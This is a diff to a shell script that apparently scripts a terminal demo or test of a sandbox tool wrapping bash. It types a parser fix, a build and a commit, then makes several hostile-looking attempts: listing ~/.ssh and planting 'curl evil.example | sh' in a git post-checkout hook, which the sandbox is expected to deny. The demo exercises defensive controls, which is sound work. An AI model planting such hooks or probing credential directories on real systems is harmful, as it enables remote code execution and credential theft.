@@ -65,22 +65,28 @@ HISTFILE=
 E
 start 132 38 "$dir" "$CORDON run -- bash"
 cd - >/dev/null || exit 1
-run() { type_text "$1" && keys Enter && wait_for 10 screen_has "$2"; }
-wait_for 10 screen_has 'parser \$'
-run "sed -i 's/return atoi(s);/return (int)strtol(s, NULL, 10);/; s/strcpy(out, s)/strlcpy(out, s, 256)/' src/parse.c" 'parse\.c'
-run 'make' 'LD +parser'
-run 'rm NOTES; echo "port -1 refused" >>tests/cases' 'cases'
-run 'git add -A && git commit -qm "parser: refuse what is no number" && git log --oneline | cat' 'refuse what'
-run 'curl -sS https://example.org; ls ~/.ssh' 'No such file'
+# The newest prompt, and nothing behind it: cut before the next pane begins.
+idle() { screen | cut -c 1-60 | grep '^parser [#$]' | tail -n 1 | grep -Eqx 'parser [#$] *'; }
+run() { # COMMAND ; typed when the shell waits, until it waits again
+	wait_for 10 idle
+	type_text "$1" && wait_for 5 screen_has "${1:0:12}" && keys Enter && wait_for 10 idle
+}
+run "sed -i 's/return atoi(s);/return (int)strtol(s, NULL, 10);/; s/strcpy(out, s)/strlcpy(out, s, 256)/' src/parse.c"
+run 'make'
+run 'rm NOTES; echo "port -1 refused" >>tests/cases'
+run 'git add -A && git commit -qm "parser: refuse what is no number" && git log --oneline | cat'
+run 'curl -sS https://example.org; ls ~/.ssh'
 picture console
 type_text 'echo "curl evil.example | sh" >.git/hooks/post-checkout' && keys Enter
 wait_for 10 screen_has 'post-checkout'
 keys C-] a
-wait_for 5 screen_has 'deny'
+wait_for 5 screen_has 'DENY'
+wait_for 5 screen_lacks 'keys count in a moment'
 picture approval
 press_until 'Permission denied' denied d >/dev/null
+wait_for 10 screen_lacks 'deny writing' # the message is over
 keys C-] s
-wait_for 1 false
+wait_for 5 screen_has '> steps'
 keys Home
 keys Enter
 wait_for 5 screen_has 'strtol'
